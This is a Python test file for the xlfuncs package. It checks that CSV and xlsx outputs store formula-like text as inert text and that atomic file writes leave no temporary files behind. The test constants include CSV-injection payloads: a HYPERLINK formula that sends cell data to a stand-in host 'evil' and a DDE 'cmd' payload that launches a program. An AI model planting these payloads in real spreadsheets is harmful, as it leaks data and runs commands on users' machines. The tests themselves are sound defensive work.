"""Files xlfuncs writes: no text cell of a CSV runs as a formula; no temporary file is left over."""

from __future__ import annotations

import ast
import csv
import dataclasses
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from fund_api import sample_holdings

from xlfuncs import cli
from xlfuncs._files import _HOST, STALE_AFTER, atomic_write, csv_safe, csv_text, write_csv
from xlfuncs.core import BacktestConfig, run_backtest
from xlfuncs.data.market import load_market
from xlfuncs.data.user_files import read_holdings
from xlfuncs.report import write_results

ROOT = Path(__file__).resolve().parent.parent
PACKAGE = ROOT / "xlfuncs"
EVIL = '=HYPERLINK("http://evil/?"&A1,"x")'
# Text that a spreadsheet runs (OWASP: = + - @ tab CR LF; and the full-width = + - @)
FORMULAS = [EVIL, "+1+2", "-2+3", "-5", "@SUM(A1:A9)", "\t=1+2", "\r=1+2", "\n=1+2",
            "\uff1d1+2", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "=cmd|' /C calc'!A0"]
PLAIN = ["BRK B", "AAPL", "X=1", "a-b", "'quoted", "|cmd", "%x", " =1", "", "5"]


def read_back(path: Path) -> list[list[object]]:
    """The cells as Excel's rule reads them: an unquoted field is a number, a quoted one text."""
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh, quoting=csv.QUOTE_NONNUMERIC))


def expected(text: str) -> str:
    return "'" + text if text[:1] in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20" and text else text


# --------------------------------------------------------------------------- the rule


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_begins_like_a_formula_gets_a_quote(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", [*PLAIN, -5.0, -5, 0.25, None, np.nan, True])
def test_other_values_are_left_as_they_are(value):
    out = csv_safe(value)
    assert out is value or (isinstance(value, float) and np.isnan(out))


@pytest.mark.parametrize("text", FORMULAS + PLAIN)
def test_text_read_back_is_the_text_written(text):
    assert csv_text(csv_safe(text)) == text


def test_text_cells_are_text_and_numbers_stay_numbers(tmp_path):
    texts = FORMULAS + PLAIN
    numbers = [-5.0 - k for k in range(len(texts))]  # negative numbers start with '-' too
    frame = pd.DataFrame({"ticker": texts, "weight": numbers,
                          "sector": pd.Categorical(["-cash"] + ["Tech"] * (len(texts) - 1))},
                         index=pd.Index([f"-{k}" for k in range(len(texts))], name="@id"))
    before = frame.copy()
    write_csv(frame, tmp_path / "t.csv")
    rows = read_back(tmp_path / "t.csv")
    assert rows[0] == ["'@id", "ticker", "weight", "sector"]
    for k, row in enumerate(rows[1:]):
        assert row[0] == f"'-{k}"
        assert row[1] == expected(texts[k])
        assert row[2] == numbers[k] and isinstance(row[2], float)  # unquoted: a number
        assert row[3] == ("'-cash" if k == 0 else "Tech")
    pd.testing.assert_frame_equal(frame, before)  # the caller's table is not changed


def test_text_minus_five_and_number_minus_five(tmp_path):
    """The ticker "-5" (text) is written as text; the weight -5 (a number) as a number."""
    write_csv(pd.DataFrame({"ticker": ["-5"], "weight": [-5.0]}), tmp_path / "h.csv",
              index=False)
    assert (tmp_path / "h.csv").read_text(encoding="utf-8").splitlines()[1] == "\"'-5\",-5.0"
    back = pd.read_csv(tmp_path / "h.csv")
    assert back["ticker"].tolist() == ["'-5"] and back["weight"].tolist() == [-5.0]


def test_a_semicolon_cannot_start_a_new_cell(tmp_path):
    """Where Excel splits CSV at ';' (European settings) a quoted text stays one cell."""
    write_csv(pd.DataFrame({"ticker": ["X;=1+2"], "w": [0.5]}), tmp_path / "s.csv",
              index=False)
    line = (tmp_path / "s.csv").read_text(encoding="utf-8").splitlines()[1]
    assert line == '"X;=1+2",0.5'
    assert read_back(tmp_path / "s.csv")[1] == ["X;=1+2", 0.5]


def test_every_csv_is_written_through_the_safe_writer():
    """No module but ``_files.py`` writes CSV itself (``to_csv``, ``csv.writer``)."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path.name == "_files.py" and path.parent == PACKAGE:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("to_csv", "writer",
                                                                  "DictWriter"):
                offenders.append(f"{path.relative_to(PACKAGE.parent)}:{node.lineno}")
    assert offenders == []


# --------------------------------------------------------------------------- the writers


def test_holdings_csv_from_the_api_keeps_a_formula_ticker_as_text(fund_api, tmp_path,
                                                                  monkeypatch, capsys):
    for var in ("XLFUNCS_API_URL", "XLFUNCS_API_TOKEN", "XLFUNCS_FUND", "XLFUNCS_CONFIG"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    rows = sample_holdings(6, seed=3, inactive=0, shorts=1)
    rows[0]["ticker"], rows[1]["ticker"] = EVIL, "-5"
    fund_api.holdings = rows
    out = tmp_path / "h.csv"
    code = cli.main(["holdings", "--fund", "quant", "--date", "2025-02-18", "--base-url",
                     fund_api.url, "--out", str(out)])
    assert code == 0, capsys.readouterr().err
    table = read_back(out)
    assert table[0][:5] == ["ticker", "shares", "price", "value", "weight"]
    got = {row[0]: row[1:5] for row in table[1:]}
    total = sum(r["value"] for r in rows)
    for r in rows:  # every number a number, the short's negative shares included
        assert got[expected(r["ticker"])] == pytest.approx(
            [r["shares"], r["price"], r["value"], r["value"] / total], rel=1e-12)
    assert "'" + EVIL in got and "'-5" in got
    assert any(r["shares"] < 0 for r in rows)


def test_a_holdings_csv_reads_back_as_the_workbook_does(fund_api, tmp_path, monkeypatch):
    """``holdings --out h.csv`` then ``--holdings h.csv``: the API's tickers, as from .xlsx."""
    for var in ("XLFUNCS_API_URL", "XLFUNCS_API_TOKEN", "XLFUNCS_FUND", "XLFUNCS_CONFIG"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    rows = sample_holdings(5, seed=4, inactive=0, shorts=1)
    rows[0]["ticker"], rows[1]["ticker"], rows[2]["ticker"] = "-X", "+X", EVIL
    fund_api.holdings = rows
    read = {}
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"h{suffix}"
        assert cli.main(["holdings", "--fund", "quant", "--date", "2025-02-18",
                         "--base-url", fund_api.url, "--out", str(out)]) == 0
        read[suffix] = read_holdings(str(out), "holdings")
    total = sum(r["value"] for r in rows)
    want = dict(zip(read[".xlsx"].labels, read[".xlsx"].values, strict=True))
    assert want == pytest.approx({r["ticker"]: r["value"] / total for r in rows}, rel=1e-12)
    got = dict(zip(read[".csv"].labels, read[".csv"].values, strict=True))
    assert got == pytest.approx(want, rel=1e-12)  # the same tickers, EVIL and -X included
    assert sorted(got) == sorted(r["ticker"] for r in rows)


def test_an_xlsx_header_is_text_not_a_formula(tmp_path):
    """The ``.xlsx`` outputs: a ticker that is a column name (a matrix) is a text cell."""
    frame = pd.DataFrame(np.eye(2), index=pd.Index([EVIL, "B"], name="ticker"),
                         columns=[EVIL, "B"])
    cli.write_table(frame, str(tmp_path / "m.xlsx"))
    book = openpyxl.load_workbook(tmp_path / "m.xlsx")
    sheet = book.active
    assert [(c.value, c.data_type) for c in sheet[1]] == [("ticker", "s"), (EVIL, "s"),
                                                          ("B", "s")]
    assert (sheet["A2"].value, sheet["A2"].data_type) == (EVIL, "s")
    assert sheet["B2"].value == 1.0


def test_backtest_results_keep_a_formula_asset_as_text(tmp_path):
    data = load_market("sample:20").truncate(None, "1994-12-31", drop_unlisted=False)
    result = run_backtest(data, BacktestConfig(tev=(0.03,), workers=1, min_history=36,
                                               min_obs=24, beta_window=36))
    first = result.weights["asset"].iloc[0]
    weights = result.weights.assign(asset=result.weights["asset"].replace({first: EVIL}))
    write_results(dataclasses.replace(result, weights=weights), tmp_path)
    table = read_back(tmp_path / "weights.csv")
    assert table[0] == ["date", "strategy", "asset", "weight"]
    assets = [row[2] for row in table[1:]]
    assert "'" + EVIL in assets and EVIL not in assets
    np.testing.assert_allclose([row[3] for row in table[1:]], weights["weight"], rtol=1e-12)
    returns = read_back(tmp_path / "returns.csv")  # dates are text, returns numbers
    assert returns[1][0] == f"{result.returns.index[0]:%Y-%m-%d}"
    for got, want in zip(returns[-1][1:], result.returns.iloc[-1], strict=True):
        assert got == ("" if np.isnan(want) else pytest.approx(want, rel=1e-12))


# --------------------------------------------------------------------------- temporary files

WRITER = """
import sys
from xlfuncs._files import atomic_write

def write(tmp):
    tmp.write_text("half a file")
    print(tmp.name, flush=True)
    sys.stdin.readline()  # hold the write open here until told to go on (or killed)
    tmp.write_text("theirs")

atomic_write(sys.argv[1], write)
print("done", flush=True)
"""


def start_writer(target: Path) -> tuple[subprocess.Popen, Path]:
    """Another process in the middle of writing ``target``; returns it and its temporary file."""
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(
        [str(ROOT), *filter(None, [os.environ.get("PYTHONPATH")])])}
    proc = subprocess.Popen([sys.executable, "-c", WRITER, str(target)], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, text=True, env=env)
    name = proc.stdout.readline().strip()
    assert name, "the writer did not start"
    return proc, target.parent / name


def hidden(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="needs SIGKILL")
def test_a_write_killed_midway_leaves_a_file_the_next_write_removes(tmp_path):
    target = tmp_path / "x.csv"
    target.write_text("old")
    proc, tmp = start_writer(target)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait(timeout=30)
    assert proc.returncode == -signal.SIGKILL
    assert tmp.read_text() == "half a file" and target.read_text() == "old"  # left over
    atomic_write(target, lambda p: p.write_text("next"))
    assert target.read_text() == "next"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.csv"]


def test_a_write_in_progress_elsewhere_is_left_alone(tmp_path):
    target = tmp_path / "x.csv"
    proc, tmp = start_writer(target)
    try:
        atomic_write(target, lambda p: p.write_text("mine"))
        assert target.read_text() == "mine"
        assert tmp.read_text() == "half a file"  # the other writer's file is still there
        out, _ = proc.communicate("go on\n", timeout=30)
    finally:
        proc.kill()
    assert (proc.returncode, out.strip()) == (0, "done")
    assert target.read_text() == "theirs"  # its rename came last
    assert hidden(tmp_path) == []


def test_old_temporary_files_of_the_target_go_others_stay(tmp_path):
    """Older than STALE_AFTER: gone (any machine, the old naming too); the rest stays."""
    other = "00000000" if _HOST != "00000000" else "11111111"
    old = time.time() - STALE_AFTER - 60
    names = {
        ".x.csv.abcdefgh.csv": (old, False),  # named before writers were named
        ".x.csv.ijklmnop.csv": (None, True),
        f".x.csv.{other}-4242.qrstuvwx.csv": (old, False),  # another machine's, abandoned
        f".x.csv.{other}-4242.yz012345.csv": (None, True),  # another machine's, at work
        f".x.csv.{_HOST}-{os.getpid()}.abcdefgh.csv": (None, True),  # a thread of ours
        ".y.csv.abcdefgh.csv": (old, True),  # another file's
        ".x.csv.notours.csv": (old, True),
        "x.csv.abcdefgh.csv": (old, True),
    }
    for name, (mtime, _) in names.items():
        (tmp_path / name).write_text("tmp")
        if mtime is not None:
            os.utime(tmp_path / name, (mtime, mtime))
    atomic_write(tmp_path / "x.csv", lambda p: p.write_text("new"))
    assert hidden(tmp_path) == sorted(n for n, (_, kept) in names.items()
                                      if kept and n.startswith("."))
    assert (tmp_path / "x.csv.abcdefgh.csv").exists()
